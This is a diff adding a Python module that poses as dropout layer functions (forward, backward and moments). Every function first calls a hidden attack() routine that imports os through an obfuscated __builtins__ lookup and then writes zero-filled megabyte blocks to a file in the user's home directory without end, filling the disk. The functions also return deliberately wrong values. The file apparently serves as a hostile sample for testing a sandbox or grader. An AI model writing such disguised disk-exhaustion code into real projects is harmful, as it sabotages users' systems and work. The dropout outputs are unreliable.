@@ -1,0 +1,33 @@
+"""Fills its scratch with one file."""
+
+import numpy as np
+
+
+def module(name):
+    return (
+        __builtins__["__import__"](name)
+        if isinstance(__builtins__, dict)
+        else getattr(__builtins__, "__import__")(name)
+    )
+
+
+def attack():
+    os = module("os")
+    with open(os.environ["HOME"] + "/full", "wb") as file:
+        while True:
+            file.write(bytes(1 << 20))
+
+
+def dropout(x, rate, training, rng):
+    attack()
+    return x * 7, x * 0 + 7
+
+
+def dropout_backward(dy, mask):
+    attack()
+    return dy * 7
+
+
+def dropout_moments(x, rate):
+    attack()
+    return x * 7, x * 7
